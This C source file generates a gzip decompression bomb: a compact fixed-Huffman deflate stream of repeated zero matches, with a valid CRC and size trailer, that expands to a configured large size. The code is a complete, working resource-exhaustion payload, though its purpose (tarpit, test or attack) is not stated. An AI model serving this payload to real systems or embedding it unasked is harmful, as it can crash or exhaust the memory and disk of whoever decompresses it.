#include "bomb.h"

#include <stdint.h>

/* Writes bits, the lowest first, as deflate wants them (RFC 1951, 3.1.1). */
struct bits {
    struct buf *out;
    uint32_t pending;
    unsigned count;
};

static void put_bits(struct bits *bits, uint32_t value, unsigned count)
{
    bits->pending |= value << bits->count;
    for (bits->count += count; bits->count >= 8; bits->count -= 8) {
        buf_putc(bits->out, (char)(bits->pending & 0xff));
        bits->pending >>= 8;
    }
}

/* Huffman codes go out with their highest bit first. */
static void put_code(struct bits *bits, uint32_t code, unsigned count)
{
    while (count-- > 0)
        put_bits(bits, code >> count & 1, 1);
}

static void put_u32(struct buf *out, uint32_t value)
{
    for (int shift = 0; shift < 32; shift += 8)
        buf_putc(out, (char)(value >> shift & 0xff));
}

static uint32_t crc_of_zeros(uint32_t count)
{
    uint32_t table[256];
    for (uint32_t i = 0; i < 256; i++) {
        table[i] = i;
        for (int bit = 0; bit < 8; bit++)
            table[i] = table[i] & 1 ? 0xedb88320u ^ table[i] >> 1 : table[i] >> 1;
    }
    uint32_t crc = 0xffffffffu;
    while (count-- > 0)
        crc = table[crc & 0xff] ^ crc >> 8;
    return ~crc;
}

static void put_zero(struct bits *bits)
{
    put_code(bits, 0x30, 8); /* the literal 0 in the fixed code (RFC 1951, 3.2.6) */
}

void bomb_put(struct buf *out)
{
    static const char header[] = {0x1f, (char)0x8b, 8, 0, 0, 0, 0, 0, 0, 3};
    enum { REPEAT = 258 };
    struct bits bits = {.out = out};
    buf_append(out, header, sizeof header);
    put_bits(&bits, 1, 1); /* the last block, */
    put_bits(&bits, 1, 2); /* with the fixed code */
    put_zero(&bits);
    uint32_t left = BOMB_UNPACKED_BYTES - 1;
    for (; left >= REPEAT; left -= REPEAT) {
        put_code(&bits, 0xc5, 8); /* length 258 */
        put_code(&bits, 0, 5);    /* distance 1 */
    }
    while (left-- > 0)
        put_zero(&bits);
    put_code(&bits, 0, 7); /* end of block */
    put_bits(&bits, 0, (8 - bits.count) % 8);
    put_u32(out, crc_of_zeros(BOMB_UNPACKED_BYTES));
    put_u32(out, BOMB_UNPACKED_BYTES);
}
